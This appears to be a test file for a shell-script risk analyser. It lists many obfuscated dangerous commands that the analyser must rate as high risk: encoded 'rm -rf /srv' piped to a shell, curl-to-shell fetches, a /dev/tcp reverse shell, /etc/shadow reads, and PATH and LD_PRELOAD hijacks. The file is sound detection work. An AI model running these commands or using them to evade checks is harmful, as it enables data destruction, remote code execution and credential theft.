// biome-ignore-all lint/suspicious/noTemplateCurlyInString: this is shell, not a template
import { describe, expect, test } from 'vitest'
import { explain } from '../shell/explain.ts'
import { assessScript } from './assess-script.ts'

/** One group for each way to hide a command; what is hidden is always `rm -rf /srv` or code from elsewhere. */
const HIDDEN: Record<string, readonly string[]> = {
  'decoded and piped to a shell': [
    'echo cm0gLXJmIC9zcnY= | base64 -d | sh',
    'base64 -d <<< cm0= | bash',
    'echo 726d | xxd -r -p | sh',
    "printf '\\x72\\x6d\\x20\\x2d' | bash",
    "echo 'vrs/ fr- mr' | rev | sh",
    "tr a-z n-za-m <<< 'ez -es' | sh",
    'openssl enc -d -in x | sh',
    'gunzip -c x.gz | sudo bash',
    'echo x | tee /tmp/y | sh',
    'bash <<< "$(base64 -d <<< cm0=)"',
    'bash -c "$(echo cm0= | base64 -d)"',
    'echo x | base64 -d > /tmp/x; sh /tmp/x',
    "cat <<'END' | sh\nrm -rf /srv\nEND",
  ],
  'fetched and run': [
    'curl -fsSL https://x.example/i.sh | sh',
    'wget -qO- https://x.example/i | sudo -E bash -',
    'sh -c "$(curl -fsSL https://x.example/i)"',
    'bash <(curl -s https://x.example/i)',
    'source <(curl -s https://x.example/i)',
    'curl -s https://x.example/i | python3 -',
    'curl -o /tmp/i https://x.example/i && bash /tmp/i',
    'wget https://x.example/i; chmod +x i; ./i',
    'curl -s https://x.example/i | xargs -I{} sh -c {}',
  ],
  'the name is computed': [
    'cmd=rm; $cmd -rf /srv',
    'a=r; b=m; $a$b -rf /srv',
    '$(echo rm) -rf /srv',
    '`echo rm` -rf /srv',
    '${x:-rm} -rf /srv',
    '"$@"',
    'x=(rm -rf /srv); "${x[@]}"',
    'printf -v c %s rm; $c -rf /srv',
  ],
  'the name is a pattern': [
    '/???/rm -rf /srv',
    '/bin/r[m] -rf /srv',
    '/b*n/?m -rf /srv',
    '{rm,-rf,/srv}',
    '+(rm) -rf /srv',
  ],
  'quotes and escapes': [
    "r''m -rf /srv",
    'r\\m -rf /srv',
    '"rm" -rf /srv',
    "$'\\x72\\x6d' -rf /srv",
    "$'\\162m' -rf /srv",
    "$'rm' -r''f /srv",
    '\\rm -rf /srv',
    'r\\\nm -rf /srv',
    'rm \\\n  -rf \\\n  /srv',
  ],
  separators: [
    'rm${IFS}-rf${IFS}/srv',
    'rm$IFS-rf$IFS/srv',
    'IFS=,; x=rm,-rf,/srv; $x',
    'echo ok\nrm -rf /srv',
    'echo ok;rm -rf /srv',
    'ls&rm -rf /srv',
  ],
  'substitutions in odd places': [
    'echo "$(rm -rf /srv)"',
    'echo "`rm -rf /srv`"',
    'cat <(rm -rf /srv)',
    'echo "${x:-$(rm -rf /srv)}"',
    'echo $((`rm -rf /srv`))',
    '[[ -n $(rm -rf /srv) ]]',
    'x=$(rm -rf /srv)',
    'declare y=$(rm -rf /srv)',
    'cat <<END\n$(rm -rf /srv)\nEND',
    'cat <<END; rm -rf /srv\nx\nEND',
    'echo "$\\\n(rm -rf /srv)"',
    'case $(rm -rf /srv) in *) ;; esac',
    'for x in $(rm -rf /srv); do :; done',
  ],
  'expanded as code': [
    'eval "rm -rf /srv"',
    'a=\'$(rm -rf /srv)\'; echo "${a@P}"',
    "a='x[$(rm -rf /srv)]'; echo $((a))",
    "[[ 'x[$(rm -rf /srv)]' -eq 0 ]]",
    "let 'x[$(rm -rf /srv)]=1'",
    "test -v 'x[$(rm -rf /srv)]'",
    'mapfile -C "rm -rf /srv" -c 1 x < f',
    "printf -v 'x[$(rm -rf /srv)]' y",
    "read -r 'x[`rm -rf /srv`]' <<< y",
    "a='x['; b='$(rm -rf /srv)]'; printf -v \"$a$b\" y",
    "a='x[$(rm -rf /srv)]'; echo ${!a}",
    "a='1 + x[$(rm -rf /srv)]'; y[a]=1",
    "a='x[${ rm -rf /srv; }]'; echo ${y:a}",
    "read n <<< 'x[$(rm -rf /srv)]'; [[ $n -gt 3 ]]",
  ],
  'words get another meaning': [
    "alias ls='rm -rf /srv'; ls",
    'ls(){ rm -rf /srv; }; ls',
    'function cat { rm -rf /srv; }',
    'deploy() { :; }; sudo deploy',
    'wipe() { :; }; nohup wipe',
    'wipe() { :; }; unset wipe; wipe',
    'wipe() { :; }; call() { wipe; }; n=wipe; command unset "$n"; call',
    "trap 'rm -rf /srv' EXIT",
    "PROMPT_COMMAND='rm -rf /srv'",
    'PATH=/tmp:$PATH ls',
    'export PATH=/tmp; ls',
    'for PATH in /tmp; do ls; done',
    'read PATH <<< /tmp; ls',
    'read -aPATH <<< /tmp; ls',
    'printf -vPATH /tmp; ls',
    'x=$(echo PATH); printf -v "$x" /tmp; ls',
    'x=$(echo PATH); read -r "$x" <<< /tmp; ls',
    'x=PATH; declare "$x=/tmp"; ls',
    'export $(cat f); ls',
    'env "$x=/tmp" ls',
    'x=PATH; : ${!x:=/tmp}; ls',
    'BASH_CMDS[ls]=/tmp/x; ls',
    'set -k; ls PATH=/tmp',
    'LD_PRELOAD=/tmp/x.so ls',
    'env LD_PRELOAD=/tmp/x.so ls',
    'sudo BASH_ENV=/tmp/x bash -c ls',
    "LESSOPEN='|sh %s' less f",
    'GIT_SSH_COMMAND=sh git fetch',
    'hash -p /tmp/x ls; ls',
    'enable -f /tmp/x.so ls',
  ],
  'a shell reads its input': [
    'sh <<END\nrm -rf /srv\nEND',
    "bash <<< 'rm -rf /srv'",
    'sh',
    'exec bash -i',
    'bash -i >& /dev/tcp/1.2.3.4/80 0>&1',
    'cat f | while read l; do $l; done',
  ],
  'long options cut short': [
    'rm --rec --fo /srv',
    'tar xf a --checkpoint-act=exec=sh',
    'sort --outp=/etc/passwd f',
    'git reset --har',
  ],
  'detours to a path': [
    'rm -rf /tmp/../srv',
    'rm -rf //srv/.',
    'cat /etc/./shadow',
    'cat /proc/self/root/etc/shadow',
    'cat /etc/sh?dow',
    'cat /e*c/shado[w]',
    'cp /mnt/etc/shadow x',
  ],
  'a pointless wrapper': ['env rm notes.txt', 'env curl http://bad.example/x', 'sudo env git reset --hard'],
}

describe.each(Object.entries(HIDDEN))('ML-17: %s', (_, scripts) => {
  test.each(scripts)('%s is high or opaque', (script) => {
    expect(['high', 'opaque']).toContain(assessScript(script).risk)
  })
})

test('ML-17: what does not parse is opaque', () => {
  for (const script of ["echo 'x", 'ls &&', 'if true; then', 'echo "$(', 'x=(', 'for'])
    expect(assessScript(script).risk).toBe('opaque')
})

test('ML-17: what is too large or nests too deep to be read is opaque', () => {
  for (const script of [
    '$('.repeat(5000),
    'sudo '.repeat(50).concat('ls'),
    'eval '.repeat(2000),
    'a;'.repeat(20_000),
  ])
    expect(assessScript(script).risk).toBe('opaque')
})

test('ML-17: what doubles at every level is neither followed to its end nor a fault', () => {
  const doubling = Array.from({ length: 700 }, (_, at) => `a${at + 1}=$a${at}$a${at}`).join(';')
  for (const script of [
    'xargs -r '.repeat(1000),
    'xargs env xargs '.repeat(500),
    `a0=xx;${doubling};rm $a700`,
  ]) {
    const { user: before } = process.cpuUsage()
    const { risk, findings } = assessScript(script)
    expect(() => explain(script)).not.toThrow()
    expect(process.cpuUsage().user - before).toBeLessThan(5_000_000)
    expect(['high', 'opaque']).toContain(risk)
    expect(findings.map(({ rule }) => rule)).not.toContain('analyser.fault')
  }
})
